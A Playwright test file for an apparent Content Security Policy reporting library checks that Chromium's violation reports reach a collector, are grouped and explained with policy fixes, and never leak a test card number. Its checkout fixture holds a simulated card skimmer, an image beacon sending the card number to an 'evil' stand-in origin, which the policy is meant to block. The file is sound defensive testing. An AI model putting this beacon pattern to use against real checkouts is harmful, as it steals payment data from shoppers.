import { createHash } from 'node:crypto';
import { expect, test as base } from '@playwright/test';
import { explain, policiesOf, verdict, type ViolationEventLike } from '@cloister/csp';
import { findChromium } from '../../scripts/browser.mjs';
import { ReportSite } from '../support/report-site.js';

const executablePath = findChromium();

/** Reports by the Reporting API are sent once a minute, unless a browser is told not to wait; certificates of tests are signed by themselves. */
const test = base.extend<{ readonly site: ReportSite; readonly scheme: 'http' | 'https' }>({
  scheme: ['https', { option: true }],
  site: async ({ scheme }, use) => {
    const site = await ReportSite.open(scheme);
    await use(site);
    await site.close();
  },
});
test.use({
  launchOptions: {
    args: ['--short-reporting-delay', '--ignore-certificate-errors'],
    ...(executablePath === undefined ? {} : { executablePath }),
  },
});

const CARD = '4242424242424242';

/** A checkout whose policy forgot the frames; the address has a card number in it, and so has an image of a skimmer. */
function serveCheckout(site: ReportSite, policy: string, headers: Readonly<Record<string, string>> = {}): string {
  site.serve('/checkout', {
    headers: { 'content-security-policy': policy, ...headers },
    body: `<!doctype html><link rel="icon" href="data:,"><title>Checkout</title>
      <script src="/app.js"></script>
      <iframe src="${site.origin('elements')}/collect.html?card=${CARD}"></iframe>
      <img alt="" src="${site.origin('evil')}/pixel/${CARD}?card=4242-4242-4242-4242">`,
  });
  return `${site.origin('shop')}/checkout?card=${CARD}`;
}

/** What was refused, once each: Chromium reports some loads twice, with and without the file that asked (what it fetched ahead). */
const blocked = (site: ReportSite): readonly string[] =>
  [...new Set(site.stored.map((report) => `${report.directive ?? ''} ${report.blocked ?? ''}`))].toSorted();

function expectNoCard(site: ReportSite): void {
  expect(site.lines.length).toBeGreaterThan(0);
  expect(site.lines.join('').replaceAll(/[^\d\n]/gu, '')).not.toContain(CARD);
  expect(site.lines.join('')).not.toContain('card=');
}

for (const scheme of ['http', 'https'] as const) {
  test.describe(`report-uri over ${scheme}`, () => {
    test.use({ scheme });

    test('the collector has a group for each cause, and no card number', async ({ page, site }) => {
      const url = serveCheckout(site, `default-src 'self'; img-src 'self' data:; report-uri ${site.endpoint}`);
      await page.goto(url);
      await page.goto(url);
      // Chromium names the origin alone where a frame was refused.
      const frame = `frame-src ${site.origin('elements')}/`;
      const image = `img-src ${site.origin('evil')}/pixel/(digits)`;
      await expect.poll(() => blocked(site)).toEqual([frame, image]);
      const countOf = (directive: string): number =>
        site.collector
          .groups()
          .filter(({ latest }) => latest.directive === directive)
          .reduce((sum, { count }) => sum + count, 0);
      await expect.poll(() => countOf('frame-src')).toBe(2);
      await expect.poll(() => countOf('img-src')).toBeGreaterThanOrEqual(2);
      expect(site.collector.groups().filter(({ latest }) => latest.directive === 'frame-src')).toHaveLength(1);
      expectNoCard(site);
    });

    test('explain names the change that lets the frame in', async ({ page, site }) => {
      const policy = `default-src 'self'; report-uri ${site.endpoint}`;
      await page.goto(serveCheckout(site, policy));
      await expect.poll(() => blocked(site).join()).toContain('frame-src');
      const elements = site.origin('elements');
      const report = site.stored.find(({ directive }) => directive === 'frame-src');
      if (report === undefined) throw new Error('no report of the frame');
      const { whose, because, fix } = explain(report, { elements });
      expect({ whose, because }).toEqual({ whose: 'sdk', because: 'default-src' });
      if (fix.kind === 'none') throw new Error(fix.why);
      expect(fix.line).toBe(`Add the directive frame-src 'self' ${elements}`);
      const [edit] = fix.edits;
      const frame = { type: 'fetch', destination: 'frame', url: `${elements}/collect.html` } as const;
      const shop = site.origin('shop');
      expect(verdict(policiesOf({ enforced: [edit?.policy ?? ''] }), frame, shop).allowed).toBe(true);
      // And the browser agrees.
      site.serve('/collect.html', { headers: {}, body: 'the fields' });
      await page.goto(serveCheckout(site, edit?.policy ?? ''));
      await expect(page.frameLocator('iframe').locator('body')).toContainText('the fields');
    });
  });
}

test('report-to: the Reporting API asks another origin, and sends there what it refused', async ({ page, site }) => {
  const url = serveCheckout(site, "default-src 'self'; img-src 'self' data:; report-to csp", {
    'reporting-endpoints': `csp="${site.endpoint}"`,
    'content-security-policy-report-only': "script-src 'self' 'report-sha256'; report-to csp",
  });
  const code = 'document.title = "Ran"';
  site.serve('/app.js', { headers: { 'content-type': 'text/javascript' }, body: code });
  await page.goto(url);
  await expect.poll(() => blocked(site).filter((line) => /^\w+-src /u.test(line)), { timeout: 20_000 }).toHaveLength(2);
  // A free inventory of scripts: what ran, by address and content.
  await expect
    .poll(() => site.stored.filter(({ type }) => type === 'csp-hash'), { timeout: 20_000 })
    .toMatchObject([
      {
        blocked: `${site.origin('shop')}/app.js`,
        destination: 'script',
        hash: `sha256-${createHash('sha256').update(code).digest('base64')}`,
      },
    ]);
  expect(site.requests).toContain('OPTIONS');
  expect(site.requests).toContain('POST application/reports+json');
  expect(site.requests).not.toContain('POST application/csp-report');
  expect(blocked(site)).toContain(`frame-src ${site.origin('elements')}/`);
  expectNoCard(site);
  const report = site.stored.find(({ directive }) => directive === 'frame-src');
  const { fix } = report === undefined ? { fix: undefined } : explain(report, { elements: site.origin('elements') });
  expect(fix).toMatchObject({ line: `Add the directive frame-src 'self' ${site.origin('elements')}` });
});

test.describe('over plain http', () => {
  test.use({ scheme: 'http' });

  test('Chromium sends nothing to Reporting-Endpoints, though localhost is a secure context', async ({
    page,
    site,
  }) => {
    const url = serveCheckout(site, `default-src 'self'; report-to csp`, {
      'reporting-endpoints': `csp="${site.endpoint}"`,
      'content-security-policy-report-only': `default-src 'none'; report-uri ${site.endpoint}`,
    });
    await page.goto(url);
    expect(await page.evaluate(() => isSecureContext)).toBe(true);
    // By then the browser has sent what it sends.
    await expect.poll(() => blocked(site).length).toBeGreaterThanOrEqual(2);
    await page.waitForTimeout(1500);
    expect(site.requests.filter((line) => line !== 'POST application/csp-report')).toEqual([]);
  });
});

test('an event in the page is explained as the report of it is', async ({ page, site }) => {
  const url = serveCheckout(site, `default-src 'self'; img-src 'self' data:; report-uri ${site.endpoint}`);
  await page.addInitScript(() => {
    const heard: object[] = [];
    Object.assign(window, { heard });
    document.addEventListener('securitypolicyviolation', (event) => {
      const { documentURI, blockedURI, effectiveDirective, originalPolicy, sourceFile, sample, disposition } = event;
      heard.push({ documentURI, blockedURI, effectiveDirective, originalPolicy, sourceFile, sample, disposition });
    });
  });
  await page.goto(url);
  const heard = () => page.evaluate(() => (window as unknown as { heard: ViolationEventLike[] }).heard);
  await expect.poll(() => blocked(site)).toHaveLength(2);
  expect((await heard()).length).toBeGreaterThanOrEqual(2);
  for (const event of await heard()) {
    const report = site.stored.find(({ directive }) => directive === event.effectiveDirective);
    if (report === undefined) throw new Error(event.effectiveDirective);
    const context = { elements: site.origin('elements') };
    const { directive, because, whose, fix } = explain(report, context);
    expect(explain(event, context)).toMatchObject({ directive, because, whose, fix });
  }
});
